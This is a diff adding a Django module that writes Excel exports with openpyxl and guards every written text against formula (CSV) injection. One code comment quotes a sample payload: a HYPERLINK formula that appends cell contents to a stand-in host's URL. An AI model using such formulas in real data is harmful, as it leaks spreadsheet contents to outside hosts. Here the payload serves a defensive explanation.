@@ -1,0 +1,164 @@
+"""Excel workbooks written one safe way, and the export kinds the areas offer.
+
+A sheet is a title, typed columns (header, width, how to read a cell from a row) and a
+queryset of rows. `write_workbook` streams sheets with openpyxl in write-only mode, row by row,
+with one bold, frozen, filtered header row each, reporting its progress; every text it writes,
+and every text `write_cell` writes into an ordinary sheet, stays text and never becomes a
+formula. Each area registers the exports it offers with `export_kind` from its own `exports`
+module (imported by its AppConfig.ready, as Django's admin registers models), so the export
+mechanism finds them here without importing the areas.
+"""
+
+import datetime as dt
+from collections.abc import Callable, Iterable
+from dataclasses import dataclass
+from typing import Any
+
+from django.core.exceptions import ImproperlyConfigured
+from django.db.models import QuerySet
+from django.utils import timezone
+from openpyxl import Workbook
+from openpyxl.cell import Cell, WriteOnlyCell
+from openpyxl.cell.cell import ERROR_CODES
+from openpyxl.styles import Alignment, Font, PatternFill
+from openpyxl.utils import get_column_letter
+
+# A cell typed, pasted or imported with one of these first characters is read as a formula by
+# spreadsheet programs ("CSV injection"): a public application named
+# `=HYPERLINK("http://x"&A1,"Open CV")` would become a live link in the office's export.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HEADER_FONT = Font(bold=True, color="FFFFFF")
+HEADER_FILL = PatternFill("solid", fgColor="0D6EFD")
+HEADER_ALIGNMENT = Alignment(vertical="center", wrap_text=True)
+
+
+@dataclass(frozen=True)
+class Column:
+    header: str  # lazily translated: a workbook is written in its requester's language
+    width: int
+    value: Callable[[Any], Any]  # row → str, int, date, naive datetime or None
+
+
+@dataclass(frozen=True)
+class Sheet:
+    title: str
+    columns: list[Column]
+    rows: QuerySet  # counted for the progress, then read in chunks
+
+
+def _looks_like_a_formula(value: Any) -> bool:
+    """A text a spreadsheet would read as a formula or an error value rather than as text."""
+    return isinstance(value, str) and (value.startswith(FORMULA_STARTS) or value in ERROR_CODES)
+
+
+def _text_stays_text(cell: Cell) -> Cell:
+    """A text that would be read as a formula is stored as a string, with the quote prefix Excel
+    itself sets when one types '=…: shown unchanged, and still text after someone edits the cell
+    in Excel or LibreOffice."""
+    if _looks_like_a_formula(cell.value):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+    return cell
+
+
+def _text_safe(worksheet, value: Any) -> Any:
+    """What to append to a write-only sheet for `value`: the value itself, or a cell keeping
+    it text if it would otherwise be read as a formula."""
+    if _looks_like_a_formula(value):
+        return _text_stays_text(WriteOnlyCell(worksheet, value=value))
+    return value
+
+
+def write_cell(worksheet, row: int, column: int, value: Any) -> Cell:
+    """Set one cell of an ordinary (not write-only) sheet; a text stays text."""
+    return _text_stays_text(worksheet.cell(row=row, column=column, value=value))
+
+
+def local_time(moment: dt.datetime | None) -> dt.datetime | None:
+    """Excel knows no time zones: Heidelberg time, as the office reads it."""
+    return timezone.localtime(moment).replace(tzinfo=None) if moment else None
+
+
+def choice_labels(choices: Iterable[tuple[str, Any]]) -> dict[str, str]:
+    """Choice labels in the workbook's language, translated once rather than once per cell."""
+    return {value: str(label) for value, label in choices}
+
+
+def write_workbook(
+    sheets: list[Sheet],
+    target,
+    *,
+    title: str,
+    progress: Callable[[int], None] = lambda percent: None,
+) -> int:
+    """Write `sheets` to `target` (a path or file), reporting progress every 2 % of the rows;
+    returns the rows written. Each sheet costs a count and one read however long it is."""
+    total = sum(sheet.rows.count() for sheet in sheets) or 1
+    step = max(1, total // 50)
+    workbook = Workbook(write_only=True)
+    workbook.properties.title = title
+    workbook.properties.creator = "ISH Manager"
+    workbook.properties.created = timezone.now().replace(tzinfo=None)
+    written = 0
+    for sheet in sheets:
+        worksheet = workbook.create_sheet(str(sheet.title)[:31])
+        for index, column in enumerate(sheet.columns, start=1):
+            worksheet.column_dimensions[get_column_letter(index)].width = column.width
+        worksheet.freeze_panes = "A2"
+        worksheet.append([_header(worksheet, str(column.header)) for column in sheet.columns])
+        count = 0
+        # One query, read in chunks: the rows are never all held at once.
+        for row in sheet.rows.iterator(chunk_size=2000):
+            worksheet.append([_text_safe(worksheet, column.value(row)) for column in sheet.columns])
+            count += 1
+            written += 1
+            if written % step == 0:
+                progress(min(99, written * 100 // total))
+        last = get_column_letter(max(1, len(sheet.columns)))
+        worksheet.auto_filter.ref = f"A1:{last}{count + 1}"
+    workbook.save(target)
+    progress(100)
+    return written
+
+
+def _header(worksheet, text: str) -> Cell:
+    cell = _text_stays_text(WriteOnlyCell(worksheet, value=text))
+    cell.font, cell.fill, cell.alignment = HEADER_FONT, HEADER_FILL, HEADER_ALIGNMENT
+    return cell
+
+
+# --- the export kinds ---------------------------------------------------------------------------
+
+SheetsBuilder = Callable[[Any, Any], list[Sheet]]  # (user, season) → the sheets in their scope
+
+
+@dataclass(frozen=True)
+class ExportKind:
+    name: str
+    roles: frozenset[str]  # who may ask for it; its rows are scoped by the selectors anyway
+    sheets: SheetsBuilder
+
+
+_EXPORT_KINDS: dict[str, ExportKind] = {}
+
+
+def export_kind(name: str, *, roles: Iterable[str]) -> Callable[[SheetsBuilder], SheetsBuilder]:
+    """Register the decorated function as the builder of the export `name`: it returns the
+    sheets of that export for a user and a season, each holding only what the user may see."""
+
+    def register(sheets: SheetsBuilder) -> SheetsBuilder:
+        if name in _EXPORT_KINDS:
+            raise ImproperlyConfigured(f"The export kind {name!r} is registered twice.")
+        _EXPORT_KINDS[name] = ExportKind(name, frozenset(roles), sheets)
+        return sheets
+
+    return register
+
+
+def registered_export(name: str) -> ExportKind:
+    try:
+        return _EXPORT_KINDS[name]
+    except KeyError:
+        raise ImproperlyConfigured(
+            f"No area registers the export kind {name!r}: its app's ready() imports its exports."
+        ) from None
